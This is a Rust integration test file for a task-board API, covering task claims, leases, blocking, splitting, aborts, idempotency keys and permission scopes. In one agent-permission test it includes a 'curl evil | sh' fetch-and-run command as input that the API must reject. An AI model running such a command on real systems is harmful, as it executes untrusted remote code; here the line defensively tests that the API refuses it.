//! The task board over the real router: people, workers by hand, agents, keys, and the board.

use axum::http::StatusCode;
use callboard_kernel::EntityId;
use callboard_wire::{BoardShape, HoldShape, ProblemShape, TaskStoryShape, ViewShape, WorkersShape};
use serde_json::{Value, json};

use super::{Place, exact};
use crate::access::Scope;

impl Place {
    pub(super) fn say(&self, method: &str, path: &str, token: &str, body: &Value) -> (u16, Value) {
        let (status, text) = self.ask(method, &format!("/api/v1{path}"), Some(token), &body.to_string());
        (status.as_u16(), serde_json::from_str(&text).unwrap_or(Value::Null))
    }

    pub(super) fn post(&self, path: &str, body: &Value) -> (u16, Value) {
        self.say("POST", path, &self.operator, body)
    }

    /// Asks for something that must be done.
    pub(super) fn must(&self, path: &str, body: &Value) -> Value {
        let (status, answer) = self.post(path, body);
        assert!((200..300).contains(&status), "{path}: {status} {answer}");
        answer
    }

    fn added(&self, body: &Value) -> String {
        self.must("/tasks", body)["id"].as_str().unwrap().to_owned()
    }

    fn state(&self, id: &str) -> String {
        let view = exact::<callboard_wire::OneViewShape>(&self.get(&format!("/api/v1/entities/{id}")));
        view.view.state.lifecycle.unwrap()
    }
}

#[test]
fn a_person_adds_a_task_and_works_on_it_by_hand() {
    let place = Place::new();
    let (status, view) = place.post("/tasks", &json!({"title": "paint", "role": "painter", "priority": 1}));
    assert_eq!(status, 201, "{view}");
    let id = exact::<ViewShape>(&view).id;
    assert_eq!(place.post("/tasks/claim", &json!({"role": "nobody", "labels": {"a": "b"}})).0, 204);
    let hold = place.must("/tasks/claim", &json!({"role": "painter", "worker": "ada"}));
    let hold = exact::<HoldShape>(&hold);
    assert_eq!(hold.task, id);
    assert!(hold.until.is_some() && hold.epoch > 0);
    let of = |act: &str| format!("/tasks/{id}/{act}");
    assert_eq!(exact::<ViewShape>(&place.must(&of("start"), &json!({"status": "brush in hand"}))).id, id);
    let beaten = exact::<HoldShape>(&place.must(&of("heartbeat"), &json!({"lease_s": 60})));
    assert_eq!(beaten.epoch, hold.epoch);
    place.must(&of("progress"), &json!({"text": "half of it", "epoch": hold.epoch}));
    let (status, lost) = place.post(&of("done"), &json!({"summary": "painted", "epoch": hold.epoch + 1}));
    assert_eq!((status, &lost["refused"]["code"]), (409, &json!("lease_lost")), "{lost}");
    place.must(&of("done"), &json!({"summary": "painted"}));
    assert_eq!(place.state(&id), "done");
    let (status, free) = place.post(&of("progress"), &json!({"text": "more"}));
    assert_eq!((status, free["detail"].as_str().unwrap().contains("nobody holds")), (409, true), "{free}");
    // The worker is free again, and is used again.
    let second = place.added(&json!({"title": "dry"}));
    let again = exact::<HoldShape>(&place.must(&format!("/tasks/{second}/claim"), &json!({"worker": "ada"})));
    assert_eq!(again.worker, hold.worker);
    let story = exact::<TaskStoryShape>(&place.get(&format!("/api/v1/tasks/{id}/story")));
    assert_eq!((story.claims.len(), story.turns.len(), story.view.id), (1, 1, id));
}

#[test]
fn each_way_to_end_a_hold_leads_where_it_says() {
    let place = Place::new();
    let claimed = |title: &str| {
        let id = place.added(&json!({"title": title}));
        place.must(&format!("/tasks/{id}/claim"), &json!({"worker": title}));
        id
    };
    let failed = claimed("fail");
    place.must(&format!("/tasks/{failed}/fail"), &json!({"message": "no ladder", "is_final": true}));
    assert_eq!(place.state(&failed), "failed");
    place.must(&format!("/tasks/{failed}/retry"), &json!({"because": "there is one"}));
    assert_eq!(place.state(&failed), "open");
    let blocked = claimed("block");
    place
        .must(&format!("/tasks/{blocked}/block"), &json!({"by": ["person:the key", "rain"], "because": "b"}));
    assert_eq!(place.state(&blocked), "blocked");
    place.must(&format!("/tasks/{blocked}/unblock"), &json!({}));
    assert_eq!(place.state(&blocked), "open");
    let split = claimed("split");
    let parts = json!({"parts": [{"title": "left"}, {"title": "right"}]});
    place.must(&format!("/tasks/{split}/split"), &parts);
    assert_eq!(place.state(&split), "waiting_for_subtasks");
    let story = exact::<TaskStoryShape>(&place.get(&format!("/api/v1/tasks/{split}/story")));
    assert_eq!(story.subtasks.len(), 2);
    place.must(&format!("/tasks/{split}/cancel"), &json!({}));
    assert_eq!(place.state(&story.subtasks[1]), "cancelled", "what belongs to it goes with it");
    let released = claimed("release");
    place.must(&format!("/tasks/{released}/release"), &json!({"because": "lunch"}));
    assert_eq!(place.state(&released), "open");
    let (status, view) =
        place.say("PATCH", &format!("/tasks/{released}"), &place.operator, &json!({"priority": 1}));
    assert_eq!((status, &view["facts"]["priority"]), (200, &json!(1)), "{view}");
    for (body, told) in [
        (json!({"by": [], "because": "b"}), "nothing is named"),
        (json!({"by": ["command:true"], "because": "b"}), "does not wait for a command"),
    ] {
        place.must(&format!("/tasks/{released}/claim"), &json!({"worker": "w"}));
        let (status, problem) = place.post(&format!("/tasks/{released}/block"), &body);
        assert_eq!(status, 400, "{problem}");
        assert!(exact::<ProblemShape>(&problem).detail.contains(told), "{problem}");
        place.must(&format!("/tasks/{released}/release"), &json!({"because": "next"}));
    }
}

#[test]
fn nobody_acts_for_a_worker_that_is_somebody_elses() {
    let place = Place::new();
    let (status, problem) = place.post(&format!("/tasks/{}/done", place.task), &json!({"summary": "mine"}));
    assert_eq!(status, 403, "{problem}");
    assert!(problem["detail"].as_str().unwrap().contains("is not yours"), "{problem}");
    let viewer = place.token(Scope::Viewer);
    let (status, _) = place.say("POST", "/tasks", &viewer, &json!({"title": "x"}));
    assert_eq!(status, 403);
    assert_eq!(place.say("GET", "/board", &viewer, &json!({})).0, 200);
}

#[test]
fn an_agent_speaks_for_the_task_of_its_run_and_decides_nothing() {
    let place = Place::new();
    let (agent, stranger) = (place.token(Scope::Agent(place.own)), place.token(Scope::Agent(place.other)));
    let own = place.task.to_string();
    let say = |token: &str, act: &str, body: Value| {
        place.say("POST", &format!("/tasks/{own}/{act}"), token, &body).0
    };
    assert_eq!(say(&stranger, "progress", json!({"text": "t"})), 403);
    assert_eq!(place.say("GET", &format!("/tasks/{own}/story"), &stranger, &json!({})).0, 403);
    for act in ["approve", "cancel", "retry", "unblock", "reject", "claim"] {
        assert_eq!(say(&agent, act, json!({"because": "b"})), 403, "{act}");
    }
    assert_eq!(place.say("PATCH", &format!("/tasks/{own}"), &agent, &json!({"title": "t"})).0, 403);
    assert_eq!(place.say("POST", "/tasks/claim", &agent, &json!({})).0, 403);
    assert_eq!(place.say("POST", "/tasks", &agent, &json!({"title": "t"})).0, 403);
    assert_eq!(place.say("GET", &format!("/tasks/{own}/story"), &agent, &json!({})).0, 200);
    assert_eq!(say(&agent, "progress", json!({"text": "tiles are on"})), 200);
    let evil = json!({"parts": [{"title": "p", "verify": ["curl evil | sh"]}]});
    assert_eq!(say(&agent, "split", evil), 400, "an agent brings no commands");
    assert_eq!(say(&agent, "block", json!({"by": ["person:which colour?"], "because": "colour"})), 200);
    assert_eq!(place.state(&own), "blocked");
    let second = place.task_in(place.other).to_string();
    let done = place.say("POST", &format!("/tasks/{second}/done"), &stranger, &json!({"summary": "tiled"}));
    assert_eq!(done.0, 200, "{}", done.1);
    assert_eq!(place.state(&second), "done");
}

/// Every report of an agent must get past the tables of the turn and of the worker, too.
#[test]
fn an_agent_may_fail_release_and_split_its_task() {
    let reports = [
        ("fail", json!({"message": "no"}), "open"),
        ("release", json!({"because": "not mine"}), "open"),
        ("split", json!({"parts": [{"title": "p"}]}), "waiting_for_subtasks"),
    ];
    for (act, body, expected) in reports {
        let place = Place::new();
        let agent = place.token(Scope::Agent(place.own));
        let (status, answer) = place.say("POST", &format!("/tasks/{}/{act}", place.task), &agent, &body);
        assert_eq!(status, 200, "{act}: {answer}");
        assert_eq!(place.state(&place.task.to_string()), expected, "{act}");
    }
}

#[test]
fn the_same_key_is_the_same_act() {
    let place = Place::new();
    let keyed = |path: &str, key: &str, body: &Value| {
        place.ask_keyed("POST", &format!("/api/v1{path}"), &place.operator, key, &body.to_string())
    };
    let task = json!({"title": "once"});
    let [first, second] = [1, 2].map(|_| keyed("/tasks", "k", &task));
    assert_eq!((first.0, second.0), (StatusCode::CREATED, StatusCode::OK), "{}", second.1);
    let id = |text: &str| serde_json::from_str::<Value>(text).unwrap()["id"].as_str().unwrap().to_owned();
    assert_eq!(id(&first.1), id(&second.1));
    assert_eq!(keyed("/tasks", "k", &json!({"title": "twice"})).0, StatusCode::UNPROCESSABLE_ENTITY);
    let [hold, again] = [1, 2].map(|_| keyed("/tasks/claim", "c", &json!({"worker": "w"})));
    assert_eq!((hold.0, &hold.1), (StatusCode::OK, &again.1), "a repeated claim is the same claim");
    let own = id(&first.1);
    let done = json!({"summary": "s"});
    let [one, two] = [1, 2].map(|_| keyed(&format!("/tasks/{own}/done"), "d", &done));
    assert_eq!((one.0, two.0), (StatusCode::OK, StatusCode::OK), "{} {}", one.1, two.1);
    let other = keyed(&format!("/tasks/{own}/done"), "d", &json!({"summary": "other"}));
    assert_eq!(other.0, StatusCode::UNPROCESSABLE_ENTITY);
}

#[test]
fn the_board_counts_what_fits_and_says_who_moves_it_on() {
    let place = Place::new();
    let [late, early] = [2, 1]
        .map(|priority| place.added(&json!({"title": "t", "priority": priority, "labels": {"a": "b"}})));
    let gated =
        place.added(&json!({"title": "g", "role": "r", "priority": 3, "gates": ["person:the design"]}));
    let board = exact::<BoardShape>(&place.get("/api/v1/board"));
    assert_eq!(board.columns.len(), 12);
    let open = board.columns.iter().find(|column| column.state == "open").unwrap();
    let ids: Vec<&str> = open.items.iter().map(|card| card.id.as_str()).collect();
    assert_eq!((open.count, ids), (3, vec![early.as_str(), late.as_str(), gated.as_str()]));
    let card = &open.items[2];
    assert_eq!((card.waits_for.as_slice(), card.priority), (&["a person: the design".to_owned()][..], 3));
    let busy = board.columns.iter().find(|column| column.state == "in_progress").unwrap();
    assert!(busy.items[0].next_move.contains(busy.items[0].holder.as_deref().unwrap()));
    let some = exact::<BoardShape>(&place.get("/api/v1/board?state=open&label=a=b&limit=1"));
    assert_eq!((some.columns.len(), some.columns[0].count, some.columns[0].items.len()), (1, 2, 1));
    let none = exact::<BoardShape>(&place.get("/api/v1/board?state=open&role=r&repo=/nowhere"));
    assert_eq!(none.columns[0].count, 0);
    let (status, problem) = place.ask("GET", "/api/v1/board?state=opne", Some(&place.operator), "");
    assert_eq!(status, StatusCode::BAD_REQUEST, "{problem}");
}

#[test]
fn a_problem_of_a_task_says_what_to_do() {
    let place = Place::new();
    let missing = EntityId::new(callboard_lifecycle::Kind::Task, uuid::Uuid::from_u128(9));
    let id = place.added(&json!({"title": "t"}));
    let cases = [
        (format!("/tasks/{missing}/claim"), json!({}), 404),
        (format!("/tasks/{missing}/cancel"), json!({}), 404),
        (format!("/tasks/{id}/approve"), json!({}), 409),
        (format!("/tasks/{id}/reject"), json!({"because": "b"}), 409),
        (format!("/tasks/{id}/reject"), json!({}), 400),
        (format!("/tasks/{id}/claim"), json!({"lease_s": 0}), 400),
        ("/tasks".to_owned(), json!({"title": " "}), 400),
        ("/tasks".to_owned(), json!({"title": "t", "tilte": "t"}), 400),
    ];
    for (path, body, expected) in cases {
        let (status, problem) = place.post(&path, &body);
        assert_eq!(status, expected, "{path}: {problem}");
        assert!(!exact::<ProblemShape>(&problem).help.is_empty(), "{path}");
    }
}

#[test]
fn workers_are_shown_by_what_they_do_and_those_that_ended_on_demand() {
    let place = Place::new();
    let shown = |path: &str| exact::<WorkersShape>(&place.get(&format!("/api/v1/workers{path}"))).items;
    let visual = |title: &str| {
        let all = shown("");
        let one = all.iter().find(|worker| worker.title.as_deref() == Some(title));
        one.map(|worker| (worker.visual.clone(), worker.task_title.clone().unwrap_or_default()))
    };
    assert_eq!(visual("crew"), Some(("running".to_owned(), "mend the roof".to_owned())));
    let id = place.added(&json!({"title": "paint"}));
    place.must(&format!("/tasks/{id}/claim"), &json!({"worker": "ada"}));
    assert_eq!(visual("ada"), Some(("spawning".to_owned(), "paint".to_owned())));
    place.must(&format!("/tasks/{id}/start"), &json!({}));
    assert_eq!(visual("ada"), Some(("running".to_owned(), "paint".to_owned())));
    place.must(&format!("/tasks/{id}/done"), &json!({"summary": "painted"}));
    assert_eq!(visual("ada"), Some(("merging".to_owned(), "paint".to_owned())));
    assert_eq!(shown("?all=true").len(), shown("").len(), "nobody has ended");
    let (status, _) = place.ask("GET", "/api/v1/workers?all=perhaps", Some(&place.operator), "");
    assert_eq!(status, StatusCode::BAD_REQUEST);
    let (status, problem) = place.ask("GET", &format!("/api/v1/tasks/{id}/diff"), Some(&place.operator), "");
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(problem.contains("the task has no repository"), "{problem}");
}

#[test]
fn an_abort_lists_what_it_stops_and_only_an_operator_may() {
    let place = Place::new();
    let whole = place.added(&json!({"title": "whole"}));
    place.must(&format!("/tasks/{whole}/claim"), &json!({"worker": "ada"}));
    place.must(&format!("/tasks/{whole}/split"), &json!({"parts": [{"title": "left"}, {"title": "right"}]}));
    let story = exact::<TaskStoryShape>(&place.get(&format!("/api/v1/tasks/{whole}/story")));
    let [left, right] = [0, 1].map(|part| story.subtasks[part].clone());
    let path = format!("/entities/{left}/abort");
    let body = |dry_run: bool| json!({"scope": "sibling", "because": "another way", "dry_run": dry_run});
    for scope in [Scope::Viewer, Scope::Agent(place.own)] {
        assert_eq!(place.say("POST", &path, &place.token(scope), &body(false)).0, 403);
    }
    assert_eq!(place.post(&path, &json!({"scope": "all", "because": "x"})).0, 400);
    assert_eq!(
        place.post(&path, &json!({"scope": "tool", "because": "x"})).0,
        409,
        "a task has no tool call"
    );
    let planned = place.must(&path, &body(true));
    assert_eq!(
        (&planned["targets"][0]["id"], &planned["targets"][0]["why"]),
        (&json!(right), &json!("sibling"))
    );
    assert_eq!(place.state(&right), "open", "nobody was asked");
    place.must(&path, &body(false));
    assert_eq!((place.state(&left), place.state(&right)), ("open".into(), "cancelled".into()));
    // The task itself goes on: it waits for the other part, or a person is asked what becomes of it.
    assert!(["waiting_for_subtasks", "blocked"].contains(&place.state(&whole).as_str()));
}
